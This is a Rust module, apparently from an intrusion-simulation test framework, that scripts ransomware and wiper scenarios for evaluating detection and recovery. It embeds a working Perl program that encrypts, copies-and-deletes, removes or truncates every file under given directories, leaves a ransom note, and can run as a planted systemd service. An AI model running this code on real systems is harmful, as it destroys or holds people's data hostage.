// SPDX-License-Identifier: Apache-2.0
//! An intruder with a stolen key becomes root and makes everybody's files unreadable, or takes them away, in one of the ways
//! in which that is done; the administrator and two users work beside him.

use super::persistence::{people, somewhere, weakness};
use super::{Actor, Material, Names, Plan, Scenario, Step, pace, step, units};
use crate::crowd::Crowd;
use crate::random::Random;
use std::time::Duration;

pub(super) const IN_PLACE: Scenario = scenario(
    "ransomware-in-place",
    "root encrypts the files of three users and two services where they stand, in one process",
    |random, material| plan(random, material, Style::InPlace, USUAL),
);
pub(super) const COPY: Scenario = scenario(
    "ransomware-copy",
    "the same by encrypted copies with a new ending; the originals are removed, and a note lies in each directory",
    |random, material| plan(random, material, Style::Copy, USUAL),
);
pub(super) const SLOW: Scenario = scenario(
    "ransomware-slow",
    "the same in place, slow and low: some files a second, with pauses",
    |random, material| plan(random, material, Style::Slow, USUAL),
);
pub(super) const PARALLEL: Scenario = scenario(
    "ransomware-parallel",
    "the same in place by four processes at once, each with its part of the files",
    |random, material| plan(random, material, Style::Parallel, USUAL),
);
pub(super) const SERVICE: Scenario = scenario(
    "ransomware-service",
    "the same by a program that a new service starts, apart from the intruder's session",
    |random, material| plan(random, material, Style::Service, USUAL),
);
pub(super) const BULK: Scenario = scenario(
    "ransomware-bulk",
    "10,000 files of 100 kB encrypted in place: how fast they are put back",
    |random, material| plan(random, material, Style::InPlace, (10_000, (100_000, 100_000))),
);
pub(super) const WIPER: Scenario =
    scenario("wiper", "everybody's files are removed, or cut to nothing, by odd seeds", |random, material| {
        let style = if random.below(2) == 0 { Style::Remove } else { Style::Truncate };
        plan(random, material, style, USUAL)
    });

/// How many files, and their sizes.
const USUAL: (u32, (u64, u64)) = (2_000, (300, 160_000));

const fn scenario(name: &'static str, about: &'static str, plan: fn(&mut Random, Material<'_>) -> Plan) -> Scenario {
    Scenario { name, about, benign: false, plan }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Style {
    InPlace,
    Copy,
    Slow,
    Parallel,
    Service,
    Remove,
    Truncate,
}

/// What it does to one file, `$p`, after it has been recorded by `told`. Perl, as every Debian has it.
const PROGRAM: &str = r##"
use strict; $| = 1;
my ($style, $token, @roots) = @ARGV;
my ($key, $ending) = ('', '.' . join '', map { chr(97 + int rand 26) } 1 .. 5);
open my $random, '<', '/dev/urandom'; read $random, $key, 1 << 20; close $random;
sub mixed { my $c = shift; my $at = int rand((1 << 20) - length($c)); return $c ^ substr($key, $at, length $c) }
sub told { my ($p, $was, $now) = @_; syswrite STDOUT, "$token was $was $p\n$token now $now $p\n" }
sub all { my $p = shift; open my $f, '<', $p or return; local $/; my $c = <$f>; return $c }
my $slept = 0;
sub treat { my $p = shift;
  if ($style eq 'copy') {
    my $c = all($p); told("$p$ending", 'absent', 'e'); told($p, 'o', 'absent');
    open my $o, '>', "$p$ending" or return; print $o mixed($c); close $o; unlink $p;
  } elsif ($style eq 'remove') { told($p, 'o', 'absent'); unlink $p }
  elsif ($style eq 'truncate') { told($p, 'o', 'e'); truncate $p, 0 }
  else {
    told($p, 'o', 'e');
    open my $f, '+<', $p or return; local $/; my $c = <$f>; seek $f, 0, 0; print $f mixed($c); close $f;
    select undef, undef, undef, 0.02 + rand 0.06 if $style eq 'slow';
  }
}
my (@files, @folders);
sub walk { my $d = shift; opendir my $h, $d or return; my @names = sort grep { $_ ne '.' && $_ ne '..' } readdir $h; push @folders, $d;
  for my $n (@names) { my $p = "$d/$n"; next if -l $p; if (-d $p) { walk($p) } elsif (-f _) { push @files, $p } } }
if ($style eq 'parallel') {
  walk($_) for @roots;
  my @children;
  for my $part (0 .. 3) { my $pid = fork; if (!$pid) { for my $n (0 .. $#files) { treat($files[$n]) if $n % 4 == $part } exit 0 } push @children, $pid }
  waitpid $_, 0 for @children;
} else {
  for my $root (@roots) { @files = (); @folders = (); walk($root);
    if ($style eq 'copy') { for my $d (@folders) { my $n = "$d/READ_TO_GET_BACK.txt"; told($n, 'absent', 'e'); open my $o, '>', $n; print $o "Your files are encrypted. Pay.\n"; close $o } }
    treat($_) for @files }
}
"##;

fn plan(random: &mut Random, _: Material<'_>, style: Style, (files, bytes): (u32, (u64, u64))) -> Plan {
    let mut names = Names::new(random);
    let (weak, escalation) = weakness(random, &mut names, "alice");
    let mut units = units();
    let benign = people(random, &mut names, &mut units);
    let mut trees = Crowd::trees();
    random.shuffle(&mut trees);
    let word = match style {
        Style::InPlace | Style::Service => "place",
        Style::Copy => "copy",
        Style::Slow => "slow",
        Style::Parallel => "parallel",
        Style::Remove => "remove",
        Style::Truncate => "truncate",
    };
    let technique = if matches!(style, Style::Remove | Style::Truncate) { "T1485" } else { "T1486" };
    let arguments = format!("{word} $RECORD {}", trees.join(" "));
    let (attack_root, record) = if style == Style::Service {
        let (unit, program, record) = (names.take(), names.take(), format!("/run/{}.out", names.take()));
        (service(&unit, &program, &record, &arguments), Some(record))
    } else {
        let script = format!("perl - {arguments} <<'PERL'\n{PROGRAM}PERL");
        let mut deed = step(Actor::Intruder, "the intruder goes through everybody's files", script, &[]);
        deed.technique = Some(technique);
        (vec![deed], None)
    };
    let mut attack_user = vec![step(Actor::Intruder, "the intruder looks around", "id; sudo -n -l; df -h /", &[])];
    attack_user[0].technique = Some("T1082");
    let mut attack_root = attack_root;
    pace(&mut attack_user, random, 300);
    pace(&mut attack_root, random, 300);
    Plan {
        planted: vec![weak],
        crowd: Some(Crowd { seed: random.draw(), files, bytes }),
        decoys: matches!(style, Style::Copy | Style::Parallel | Style::Truncate),
        record,
        escalation,
        source: somewhere(random),
        benign,
        attack_user,
        attack_root,
        units,
        ..Plan::default()
    }
}

/// A program and a unit that starts it; its record goes to a file that is on no disk.
fn service(unit: &str, program: &str, record: &str, arguments: &str) -> Vec<Step> {
    let (file, path) = (format!("/etc/systemd/system/{unit}.service"), format!("/usr/local/lib/{program}"));
    let mut plant = step(
        Actor::Intruder,
        "the intruder puts a program in place",
        format!("cat >{path} <<'PERL'\n#!/usr/bin/perl\n{PROGRAM}PERL\nchmod 755 {path}"),
        &[&path],
    );
    plant.technique = Some("T1036.005");
    let mut start = step(
        Actor::Intruder,
        "the intruder starts it as a service",
        format!(
            "printf '[Service]\\nType=oneshot\\nStandardOutput=append:{record}\\nExecStart={path} %s\\n' \"{arguments}\" >{file}; \
             systemctl daemon-reload; systemctl start --no-block {unit}.service; sleep 0.2; \
             while [ \"$(systemctl show -p ActiveState --value {unit}.service)\" = activating ]; do echo; sleep 0.3; done"
        ),
        &[&file],
    );
    start.technique = Some("T1543.002");
    start.pause = Duration::from_millis(100);
    vec![plant, start]
}
